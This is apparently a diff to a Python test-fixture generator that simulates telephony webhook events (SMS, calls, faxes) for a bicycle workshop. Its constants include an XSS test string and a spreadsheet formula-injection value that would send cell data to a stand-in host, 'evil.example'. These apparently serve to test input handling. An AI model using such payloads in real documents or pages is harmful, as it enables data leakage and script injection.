@@ -27,8 +27,9 @@ OURS = "+6562221000"
 ABROAD = "batam"
 BULK = "AA-B-2041"
 
-SCRIPT = "<script>document.title = 'owned'</script>"
+SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+QUESTION = "Hello! The chain came off again on the way home. When could I bring the bike in?"
 SECRET = "My door code is 4711, please ring twice."
 RECORDING = "https://recordings.example.com/rec-8812.mp3"
 ACCOUNTS = {
@@ -66,6 +67,7 @@ class Workshop:
         for ago in reversed(range(1, self.days + 1)):
             self._day(self._at(ago, 8))
         self._bulk(self._at(2, 10))
+        self._today()
         self._mei()
         self._strangers()
         with _listening():
@@ -96,7 +98,23 @@ class Workshop:
         if self.random.random() < 0.5 * weight:
             self._fax(self._soon(morning))
 
-    def _sms_sent(self, moment: datetime, account: str) -> None:
+    def _today(self) -> None:
+        """The last hours, in which not all has gone well, and the latest SMS is on its way."""
+        for minutes, account, end in (
+            (218, "default", "delivered"),
+            (171, "default", "delivered"),
+            (112, "default", "failed"),
+            (94, ABROAD, "delivered"),
+            (47, "default", "delivered"),
+            (18, "default", ""),
+        ):
+            self._sms_sent(self.now - timedelta(minutes=minutes), account, end)
+        for minutes in (203, 131, 66):
+            self._call(self.now - timedelta(minutes=minutes), "default")
+        self._sms_received(self.now - timedelta(minutes=155))
+        self._menu(self.now - timedelta(minutes=83))
+
+    def _sms_sent(self, moment: datetime, account: str, end: str | None = None) -> None:
         currency, price, _minute = _PRICES[account]
         named = {
             **self._named("AA-S", moment),
@@ -106,15 +124,14 @@ class Workshop:
             "rate": price,
         }
         self.say(moment, "sms", {**named, "sms_status": "queued"}, account)
-        end = self.random.choices(["delivered", "failed", ""], [92, 7, 1])[0]
+        if end is None:
+            end = self.random.choices(["delivered", "failed", ""], [92, 7, 1])[0]
         if end:
             self.say(moment + timedelta(seconds=9), "sms", {**named, "sms_status": end, "debit": price}, account)
 
     def _sms_received(self, moment: datetime) -> None:
         said = {"from": self._number("default"), "to": OURS, "msg": self.random.choice(_QUESTIONS)}
-        self.say(
-            moment, "sms", {**self._named("AA-SI", moment), **said, "debit": 0.013, "currency": "SGD"}
-        )
+        self.say(moment, "sms", {**self._named("AA-SI", moment), **said, "debit": 0.013, "currency": "SGD"})
 
     def _call(self, moment: datetime, account: str) -> None:
         currency, _price, minute = _PRICES[account]
@@ -173,8 +190,7 @@ class Workshop:
         """A customer asks, is answered, calls, and leaves a message."""
         first, second = self._at(3, 9), self._at(1, 11)
         asked = {"from": MEI, "to": OURS, "debit": 0.013, "currency": "SGD"}
-        text = "Hello! The chain came off again on the way home. When could I bring the bike in?"
-        self.say(first, "sms", {**asked, "txn_ref": "AA-SI-9001", "msg": text})
+        self.say(first, "sms", {**asked, "txn_ref": "AA-SI-9001", "msg": QUESTION})
         self._answer(
             "AA-S-9002",
             first + timedelta(minutes=4),
@@ -188,7 +204,9 @@ class Workshop:
             "Your bicycle is ready: new chain and cassette, 86.50 SGD. We are open until seven.",
             is_late=True,
         )
-        self.say(second + timedelta(minutes=9), "sms", {**asked, "txn_ref": "AA-SI-9004", "msg": "Great, I come at six."})
+        self.say(
+            second + timedelta(minutes=9), "sms", {**asked, "txn_ref": "AA-SI-9004", "msg": "Great, I come at six."}
+        )
         missed = {"dest1": OURS, "dest2": MEI, "call_status_dest1": "answered", "call_status_dest2": "unanswered"}
         charge = {"duration": 0, "debit": "0.000", "currency": "SGD"}
         self.say(second + timedelta(hours=8), "voice", {"txn_ref": "AA-C-9005", **missed, **charge})
@@ -212,9 +230,7 @@ class Workshop:
 
     # How it is said.
 
-    def say(
-        self, moment: datetime, route: str, said: dict[str, Any], account: str = "default", **fields: Any
-    ) -> None:
+    def say(self, moment: datetime, route: str, said: dict[str, Any], account: str = "default", **fields: Any) -> None:
         """Plan a notification as Hoiio would have posted it then."""
         date = {"date": moment.astimezone(_GMT8).strftime("%Y-%m-%d %H:%M:%S")}
         came = {"received_at": moment, "account": account, "proof": Proof.URL, "remote_addr": "203.0.113.7"}
